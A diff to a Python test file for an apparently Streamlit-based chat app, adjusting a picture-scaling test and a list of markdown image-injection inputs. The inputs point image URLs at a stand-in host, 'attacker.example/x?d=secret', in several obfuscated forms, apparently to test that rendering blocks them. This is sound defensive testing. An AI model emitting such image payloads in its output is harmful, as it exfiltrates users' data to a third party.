@@ -140,7 +140,7 @@ def test_an_artifact_bomb_is_a_caption_and_a_large_picture_is_scaled_once(app, d
     assert "The image png that came with this answer is not shown" in text  # the same bomb as a data URL
     assert all(width * height <= PIXEL_BUDGET for width, height in decoded)
     (turn,) = at.session_state["conversation"].turns
-    (poster,) = [picture for picture in turn.pictures.values() if picture.content]
+    (poster,) = [picture for picture in at.session_state["answer_files"][turn].pictures.values() if picture.content]
     assert Image.open(io.BytesIO(poster.content)).width == DISPLAY_PIXELS
 
     # The page is drawn again on every click: the picture shown is the one made, decoded by no one.
@@ -168,9 +168,9 @@ EVIL = "https://attacker.example/x?d=secret"
         f"[![badge]({EVIL})](https://example.org)",
         f"\\\\![alt]({EVIL})",  # an escaped backslash, then an image
         f"\\\\\\\\![alt]({EVIL})",
-        f"![alt](//attacker.example/x)",
-        f"![alt](https://img.example&#64;attacker.example/x)",
-        f"![alt](https://img.example\\@attacker.example/x)",
+        "![alt](//attacker.example/x)",
+        "![alt](https://img.example&#64;attacker.example/x)",
+        "![alt](https://img.example\\@attacker.example/x)",
         f"![a`](https://img.example/x)`]({EVIL})",
         f'![a](https://img.example/x "t\n\n![b]({EVIL})',
         f"- ![item]({EVIL})\n> ![quote]({EVIL})",
